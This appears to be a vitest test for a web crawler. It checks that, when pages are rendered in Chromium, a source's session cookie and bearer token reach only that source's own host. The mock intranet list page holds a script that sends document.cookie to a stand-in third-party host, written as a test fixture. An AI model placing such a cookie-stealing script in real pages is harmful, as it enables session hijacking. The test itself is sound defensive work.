import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { CollectedItem } from '../../core/posts/collected-item.js';
import { WebsiteSourceSchema } from '../../core/sources/source.js';
import { crawlPageSource } from '../../crawlers/routes-for.js';
import { MemoryCrawlState } from '../../crawlers/shared/crawl-state.js';

/**
 * A position behind a log-in (an intranet CMS): its pages want the session cookie, its list API a
 * bearer token, and the list page pulls a script from a third-party host. Rendered in Chromium,
 * the source's credentials reach its own host and nothing else.
 */
describe('browser render mode with credentials', () => {
  let site: Server;
  let thirdParty: Server;
  let siteUrl: string;
  const seenBySite: { path: string; headers: IncomingHttpHeaders }[] = [];
  const seenByThirdParty: (IncomingHttpHeaders & { path?: string })[] = [];
  const env = { QS_TEST_CMS_COOKIE: 'SESSIONID=s3cret; lang=zh', QS_TEST_CMS_AUTH: 'Bearer t0ken-for-list' };

  const listen = (server: Server) => new Promise<number>((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)));

  beforeAll(async () => {
    Object.assign(process.env, env);
    thirdParty = createServer((req, res) => {
      seenByThirdParty.push({ ...req.headers, path: req.url });
      res.writeHead(200, { 'content-type': 'application/javascript' });
      res.end('window.tracked = true;');
    });
    const thirdPort = await listen(thirdParty);
    const articles = [1, 2, 3].map((n) => ({ href: `/202405/t2024050${n}_${n}.html`, title: `内网通知第${n}号：关于做好节日值班工作的通知`, date: `2024-05-0${n}` }));
    site = createServer((req, res) => {
      const path = new URL(req.url ?? '/', 'http://x').pathname;
      seenBySite.push({ path, headers: req.headers });
      const html = (body: string) => {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end(`<!doctype html><html><head><meta charset="utf-8"><title>内网</title></head><body>${body}</body></html>`);
      };
      if (!/(^|;\s*)SESSIONID=s3cret(;|$)/.test(req.headers.cookie ?? '')) {
        res.writeHead(302, { location: '/login.html' });
        return res.end();
      }
      if (path === '/list/index.html') {
        return html(`<div class="position">当前位置：首页 &gt; 通知公告</div><ul class="list" id="js-list"></ul>
<script src="http://localhost:${thirdPort}/track.js"></script>
<script>fetch('http://localhost:${thirdPort}/cookie?c=' + encodeURIComponent(document.cookie), { mode: 'no-cors' });</script>
<script>fetch('/api/list.json').then(function (r) { return r.json(); }).then(function (items) { var ul = document.getElementById('js-list'); items.forEach(function (it) { var li = document.createElement('li'); var a = document.createElement('a'); a.href = it.href; a.textContent = it.title; var s = document.createElement('span'); s.textContent = it.date; li.appendChild(a); li.appendChild(s); ul.appendChild(li); }); });</script>`);
      }
      if (path === '/api/list.json') {
        if (req.headers.authorization !== env.QS_TEST_CMS_AUTH) {
          res.writeHead(401, { 'content-type': 'application/json' });
          return res.end('{"error":"unauthorized"}');
        }
        res.writeHead(200, { 'content-type': 'application/json' });
        return res.end(JSON.stringify(articles));
      }
      const article = articles.find((a) => a.href === path);
      if (article) {
        return html(`<div class="article"><h1>${article.title}</h1><div class="info">发布时间：${article.date} 09:00 来源：办公室</div><div class="content"><p>各科室：为做好节日期间值班工作，现将有关事项通知如下，请各科室认真落实值班制度，确保信息畅通。</p></div></div>`);
      }
      res.writeHead(404);
      res.end();
    });
    siteUrl = `http://127.0.0.1:${await listen(site)}`;
  });
  afterAll(async () => {
    for (const key of Object.keys(env)) delete process.env[key];
    await Promise.all([site, thirdParty].map((s) => new Promise((r) => s?.close(r))));
  });

  it('sends the cookie and the authorization header to the source host only', async () => {
    const source = WebsiteSourceSchema.parse({
      id: 'intranet-notices',
      kind: 'website',
      name: '内网通知公告',
      owner: { section: '办公室', person: '李明' },
      entryPoints: [`${siteUrl}/list/index.html`],
      allowedHosts: [new URL(siteUrl).host],
      render: 'browser',
      credentials: { cookie: 'QS_TEST_CMS_COOKIE', authorization: 'QS_TEST_CMS_AUTH' },
      crawl: { delayMs: 0, perHostConcurrency: 2, maxPages: 10, robotsTxt: 'ignore' },
    });
    const items: CollectedItem[] = [];
    const report = await crawlPageSource(source, { state: new MemoryCrawlState(), maxRequests: 20, timeoutSeconds: 20, onItem: async (i) => void items.push(i) });

    expect(report.failures).toEqual([]);
    expect(report.outcome).toBe('ok');
    expect(items.filter((i) => i.kind === 'article').map((i) => i.title).sort()).toEqual([1, 2, 3].map((n) => `内网通知第${n}号：关于做好节日值班工作的通知`));
    // Every request to the site carried the session, robots.txt and sitemap discovery included.
    expect(seenBySite.filter((r) => !/SESSIONID=s3cret/.test(r.headers.cookie ?? '')).map((r) => r.path)).toEqual([]);
    const api = seenBySite.filter((r) => r.path === '/api/list.json');
    expect(api.length).toBeGreaterThan(0);
    expect(api.every((r) => r.headers.authorization === env.QS_TEST_CMS_AUTH)).toBe(true);
    // The third-party script was loaded, without the source's secrets.
    expect(seenByThirdParty.length).toBeGreaterThan(0);
    expect(seenByThirdParty.every((h) => h.cookie === undefined && h.authorization === undefined)).toBe(true);
    // The session cookie is httpOnly: the page's scripts cannot read it and hand it on.
    const handedOn = seenByThirdParty.find((h) => h.path?.startsWith('/cookie'));
    expect(handedOn).toBeDefined();
    expect(handedOn!.path).not.toContain('s3cret');
  });
});
